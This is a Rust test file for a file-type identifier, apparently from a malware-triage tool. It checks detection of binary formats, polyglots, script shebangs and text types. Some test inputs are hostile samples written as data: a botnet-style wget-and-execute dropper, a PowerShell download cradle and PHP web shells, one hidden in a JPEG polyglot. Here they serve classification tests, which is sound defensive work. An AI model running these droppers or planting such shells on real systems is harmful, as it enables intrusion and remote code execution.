//! Types by content, by example.

use super::identify;
use crate::elf;
use crate::specimen::{Specimen, noise};

fn name(bytes: &[u8]) -> String {
    identify(bytes, elf::read(bytes).as_ref()).file_type.name
}

fn description(bytes: &[u8]) -> String {
    identify(bytes, elf::read(bytes).as_ref()).file_type.description
}

#[test]
fn binary_formats() {
    let mut pe = vec![0; 512];
    pe[..2].copy_from_slice(b"MZ");
    pe[60] = 128;
    pe[128..134].copy_from_slice(b"PE\0\0\x4c\x01");
    pe[152..154].copy_from_slice(b"\x0b\x01");
    pe[220] = 2;
    assert_eq!(description(&pe), "PE32 executable (GUI) Intel 80386, for MS Windows");
    pe[128] = 0;
    assert_eq!(name(&pe), "dos-executable");

    let mut tar = vec![0; 1024];
    tar[257..262].copy_from_slice(b"ustar");
    let cases: &[(&[u8], &str)] = &[
        (b"", "empty"),
        (b"\xca\xfe\xba\xbe\0\0\0\x34\0\x10", "java-class"),
        (b"\xca\xfe\xba\xbe\0\0\0\x02\0\0\0\x07", "mach-o"),
        (b"dex\n035\0", "dex"),
        (b"\0asm\x01\0\0\0", "wasm"),
        (b"\x1f\x8b\x08\0\0\0\0\0", "gzip"),
        (b"BZh91AY&SY....", "bzip2"),
        (b"BZh hello everybody", "text"),
        (b"\xfd7zXZ\0\0\x04", "xz"),
        (b"7z\xbc\xaf\x27\x1c\0\x04", "7z"),
        (b"Rar!\x1a\x07\x01\0", "rar"),
        (b"MSCF\0\0\0\0", "cab"),
        (b"%PDF-1.7\n", "pdf"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "ole"),
        (b"L\0\0\0\x01\x14\x02\0", "lnk"),
        (b"{\\rtf1\\ansi", "rtf"),
        (b"\x89PNG\r\n\x1a\n", "png"),
        (b"\xff\xd8\xff\xe0", "jpeg"),
        (b"\xd4\xc3\xb2\xa1\x02\0\x04\0", "pcap"),
        (b"PK\x03\x04\x14\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x01\0\0\0a", "zip"),
        (
            b"PK\x03\x04\x14\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x11\0\0\0word/document.xml",
            "docx",
        ),
        (b"\x7fELF\x01", "elf"),
        (&tar, "tar"),
        (&noise(300, 1), "unknown"),
    ];
    for (bytes, expected) in cases {
        assert_eq!(name(bytes), *expected, "{:?}", &bytes[..bytes.len().min(20)]);
    }
    assert_eq!(name(&Specimen::mips(b"x".as_slice()).build()), "elf");
}

#[test]
fn many_types_are_known() {
    use super::{archive, languages, table};
    let binary = table::TABLE.iter().map(|magic| magic.name);
    let special = archive::names();
    let texts = languages::names();
    let names: std::collections::BTreeSet<&str> = binary.chain(special).chain(texts).collect();
    assert!(names.len() >= 240, "{}", names.len());
}

#[test]
fn polyglots_are_noticed() {
    let mut zip = b"PK\x03\x04".to_vec();
    zip.resize(31, 0);
    let directory = zip.len();
    zip.extend(b"PK\x01\x02");
    zip.resize(directory + 47, 0);
    zip.extend(b"PK\x05\x06\0\0\0\0\x01\0\x01\0\x2f\0\0\0\x1f\0\0\0\0\0");
    let also = |bytes: &[u8]| identify(bytes, None).file_type.also;
    assert!(also(&zip).is_empty());
    assert_eq!(also(&[&b"GIF89a\x01\0\x01\0"[..], &zip].concat()), ["zip"]);
    assert_eq!(also(b"\xff\xd8\xff\xe0\0\0<?php system($_GET[1]); ?>"), ["php"]);
    assert_eq!(also(b"\x89PNG\r\n\x1a\n\0\0\0%PDF-1.4\n"), ["pdf"]);
    let mut both = vec![0; 0x8800];
    both[..6].copy_from_slice(b"%PDF-1");
    both[0x8001..0x8006].copy_from_slice(b"CD001");
    assert_eq!(also(&both), ["iso9660"]);
}

#[test]
fn each_type_has_a_reason() {
    for bytes in [&b"GIF89a"[..], b"#!/bin/sh\n", b"", b"\x01\x02\x03", b"{}", b"hello\n"] {
        let reasons = identify(bytes, None).file_type.reasons;
        assert!(reasons.iter().any(|reason| !reason.is_empty()), "{bytes:?}");
    }
}

#[test]
fn scripts_by_their_first_line() {
    for (line, expected) in [
        ("#!/bin/sh", "shell-script"),
        ("#! /bin/bash -e", "shell-script"),
        ("#!/usr/bin/env bash", "shell-script"),
        ("#!/usr/bin/env -S python3 -u", "python"),
        ("#!/usr/bin/python3.11", "python"),
        ("#!/usr/bin/perl -w", "perl"),
        ("#!/system/bin/sh", "shell-script"),
        ("#!/bin/shred", "script"),
        ("#!/usr/bin/awk -f", "script"),
    ] {
        assert_eq!(name(format!("{line}\nx\n").as_bytes()), expected, "{line}");
    }
}

#[test]
fn texts_by_their_content() {
    for (text, expected) in [
        (
            "cd /tmp || cd /var/run; wget http://192.0.2.1/a; chmod 777 a; ./a; rm -rf a\n",
            "shell-script",
        ),
        ("wget http://192.0.2.1/a.sh\nsh a.sh\n", "shell-script"),
        ("for i in 1 2; do wget $i; done\ncurl -O http://192.0.2.1/x\n", "shell-script"),
        ("<!DOCTYPE html>\n<html><body></body></html>", "html"),
        ("  <html><head></head></html>", "html"),
        ("<?php eval($_POST['x']); ?>", "php"),
        ("<?xml version=\"1.0\"?><a/>", "xml"),
        ("{\"a\": [1, 2, 3]}", "json"),
        ("{not json", "text"),
        ("@echo off\r\nset X=1\r\n", "batch"),
        ("\nimport os\n\ndef f():\n    print(1)\n", "python"),
        ("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')", "powershell"),
        ("var x = document.createElement('a'); eval(x); function(y) { return 1 }", "javascript"),
        ("From: a@b.example\nTo: c@d.example\nSubject: hello\nDate: now\n\nhi\n", "mail"),
        ("-----BEGIN CERTIFICATE-----\n", "certificate"),
        ("-----BEGIN DH PARAMETERS-----\n", "pem"),
        ("Dear reader, this is a letter.\n", "text"),
        ("鵜飼\n", "text"),
    ] {
        assert_eq!(name(text.as_bytes()), expected, "{text}");
    }
}

#[test]
fn texts_are_described() {
    assert_eq!(description(b"hello\n"), "ASCII text");
    assert_eq!(description(b"hello\r\n"), "ASCII text, with CRLF line terminators");
    assert_eq!(description("é".as_bytes()), "UTF-8 text, with no line terminators");
    assert_eq!(description(b"#!/bin/sh\nexit\n"), "POSIX shell script, ASCII text executable");
    let wide: Vec<u8> =
        [0xfeff].into_iter().chain("hello\n".encode_utf16()).flat_map(u16::to_le_bytes).collect();
    assert_eq!(description(&wide), "UTF-16, little-endian text");
}

#[test]
fn a_text_cut_in_a_character_stays_a_text() {
    let long = "鵜".repeat(crate::limits::TEXT_HEAD_BYTES / 3 + 10);
    assert_eq!(name(long.as_bytes()), "text");
}
